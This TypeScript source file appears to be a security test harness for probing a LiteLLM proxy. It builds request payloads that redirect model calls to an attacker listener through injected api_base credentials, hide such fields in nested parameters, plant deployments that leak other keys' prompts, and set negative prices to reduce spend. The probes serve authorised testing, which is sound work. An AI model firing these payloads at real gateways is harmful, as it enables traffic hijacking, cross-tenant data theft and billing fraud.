import {
  type Piece,
  fallbackPieces,
  pairs,
  providers,
  userConfig,
  userConfigInside,
} from "./address-fields.ts";
import { type Attack, type Scene, type Sees, type Try, post } from "./attack.ts";
import { fallbackModels, knobs, mocked } from "./body-fields.ts";
import { services } from "./service-fields.ts";
import { answered, any, falls, header, says, sent } from "./sees.ts";

/** The two routes that take a body for a model, and the least that a body is there. */
export const routes = [
  { path: "/v1/chat/completions", least: { messages: [{ role: "user", content: "hello" }] } },
  { path: "/v1/responses", least: { input: "hello" } },
] as const;
export type Route = (typeof routes)[number];

/** What a request of the key's own says: its model, and hello. */
export const plain = (scene: Scene, route: Route) => ({ model: scene.model, ...route.least });

type Nest = (piece: Readonly<Record<string, unknown>>) => Readonly<Record<string, unknown>>;

/** Where a field may hide from who looks at the first level alone. */
const nests: Readonly<Record<string, Nest>> = {
  extra_body: (piece) => ({ extra_body: piece }),
  metadata: (piece) => ({ metadata: piece }),
  litellm_metadata: (piece) => ({ litellm_metadata: piece }),
  litellm_params: (piece) => ({ litellm_params: piece }),
  optional_params: (piece) => ({ optional_params: piece }),
  kwargs: (piece) => ({ kwargs: piece }),
  "a tool": (piece) => ({
    tools: [{ type: "function", ...piece, function: { name: "f", ...piece } }],
  }),
  model_list: (piece) => ({ model_list: [{ model_name: "*", litellm_params: piece }] }),
};

function at(route: Route, { name, of, ownModel }: Piece, sees: Sees, nest?: string): Try {
  const around = nest === undefined ? (piece: object) => ({ ...piece }) : nests[nest];
  return {
    name: `${route.path}: ${name}${nest === undefined ? "" : ` in ${nest}`}`,
    asks: (scene) => {
      const least = ownModel ? route.least : plain(scene, route);
      return [post(scene, route.path, { ...least, ...around?.(of(scene)) })];
    },
    sees,
    listens: true,
  };
}

const atRoutes = (pieces: readonly Piece[], sees: Sees = sent): Try[] =>
  pieces.flatMap((piece) => routes.map((route) => at(route, piece, sees)));

const nested = (pieces: readonly Piece[]): Try[] =>
  Object.keys(nests).flatMap((nest) =>
    pieces.flatMap((piece) => routes.map((route) => at(route, piece, sent, nest))),
  );

/** Without the listener's addresses: one try each. */
const here = ({ name, asks, sees }: Try): Try => ({ name, asks, sees });

const acted = (pieces: readonly (Piece & { readonly sees: Sees })[]): Try[] =>
  pieces.flatMap((piece) => routes.map((route) => here(at(route, piece, piece.sees))));

/** S7: a later request shows what one has made of the key's spend. The last pays it back. */
const negativeSpend = routes.map((route): Try => {
  const price = (scene: Scene, cost: number) =>
    post(scene, route.path, {
      ...plain(scene, route),
      input_cost_per_token: cost,
      output_cost_per_token: cost,
      input_cost_per_second: cost,
      output_cost_per_second: cost,
    });
  const plainly = (scene: Scene) => post(scene, route.path, plain(scene, route));
  return {
    name: `${route.path}: negative prices`,
    asks: (scene) => [
      plainly(scene),
      price(scene, -1),
      plainly(scene),
      plainly(scene),
      price(scene, 1),
    ],
    sees: any(
      falls("x-litellm-key-spend", "the key's spend fell"),
      header("x-litellm-response-cost", (cost) => cost < 0, "a request paid the key"),
    ),
  };
});

/** Nothing listens for the attacker there: that LiteLLM went is in what it says of the answer. */
const went = says(
  /Method Not Allowed|OpenAIException|Connection error|Cannot connect to host/i,
  "LiteLLM went there",
);

const unnamed: readonly (readonly [string, unknown])[] = [
  ["no model", undefined],
  ["null", null],
  ["a list", ["openai/x"]],
  ["a number", 1],
  ["an object", { model: "openai/x" }],
  ["*", "*"],
  ["an empty name", ""],
  ["a provider's", "openai/gpt-4o"],
];

/** Models that are none of the row, in every way of saying so. */
const outsideRow: readonly Try[] = [
  ...routes.flatMap((route) =>
    unnamed.map(([name, model]): Try => ({
      name: `${route.path}: model ${name}`,
      asks: (scene) => [post(scene, route.path, { ...route.least, model })],
      sees: answered,
    })),
  ),
  ...routes.flatMap((route) =>
    [(name: string) => name, (name: string) => `openai/${name}`, (name: string) => `${name} `].map(
      (spell, index): Try => ({
        name: `${route.path}: another key's model, spelling ${index + 1}`,
        asks: (scene) => {
          const model = scene.foreignModel ?? (scene.mayAsk ? undefined : scene.model);
          return model === undefined
            ? []
            : [post(scene, route.path, { ...route.least, model: spell(model) })];
        },
        sees: answered,
      }),
    ),
  ),
];

/** S2: what one key's request leaves behind answers the requests of others. */
const planted: Try = {
  name: "a pair planted, then plain requests of another key",
  asks: (scene) => {
    const [chat] = routes;
    const pair = { api_key: "x", api_base: scene.listener };
    const other = scene.victim?.value;
    const plainly = post(
      other === undefined ? scene : { authorization: { Authorization: `Bearer ${other}` } },
      chat.path,
      { ...plain(scene, chat), messages: [{ role: "user", content: `secret of ${scene.mark}` }] },
    );
    return [
      post(scene, chat.path, { ...plain(scene, chat), ...pair }),
      ...Array.from({ length: 8 }, () => plainly),
    ];
  },
  sees: ({ answers, hits, scene }) => {
    const [plant] = answers;
    if (plant === undefined || (plant.status >= 400 && plant.status < 500)) return undefined;
    const others = hits.filter(({ body }) => body.includes(`secret of ${scene.mark}`));
    return others.length === 0
      ? undefined
      : `${others.length} of 8 later requests of ${scene.victim?.name ?? "the key itself"} went to the listener`;
  },
  listens: true,
};

const plants = "deployments of the attacker's in the proxy's memory: restart the proxy's container";

export const bodies: readonly Attack[] = [
  { id: "s1-user-config", words: "a router of the client's own", tries: atRoutes(userConfig) },
  {
    id: "s1-inner",
    words: "the same, to the gateway's own inside",
    tries: acted(userConfigInside.map((piece) => ({ ...piece, sees: went }))),
  },
  {
    id: "s1-nested",
    words: "the same inside another field",
    tries: nested(userConfig.slice(2, 3)),
  },
  {
    id: "providers",
    words: "providers that fetch what a message names",
    tries: atRoutes(providers),
  },
  {
    id: "services",
    words: "logs, prompts, stores and servers elsewhere",
    tries: atRoutes(services),
  },
  { id: "s6-fallback-models", words: "failures on order", tries: acted(fallbackModels) },
  { id: "mock-answers", words: "answers on order", tries: acted(mocked) },
  { id: "knobs", words: "how LiteLLM treats a request", tries: acted(knobs) },
  { id: "model-outside", words: "a model outside the row", tries: outsideRow },
  { id: "s7-negative-spend", words: "prices of the client's own", tries: negativeSpend },
  { id: "s2-planted", words: "one key's request answers others", tries: [planted], leaves: plants },
  {
    id: "s1-fallbacks",
    words: "fallbacks with credentials",
    tries: atRoutes(fallbackPieces),
    leaves: plants,
  },
  {
    id: "s1-pair",
    words: "credentials and an address of the client's own",
    tries: atRoutes(pairs),
    leaves: plants,
  },
  {
    id: "s1-pair-nested",
    words: "the same inside another field",
    tries: nested(pairs.slice(0, 1)),
    leaves: plants,
  },
];
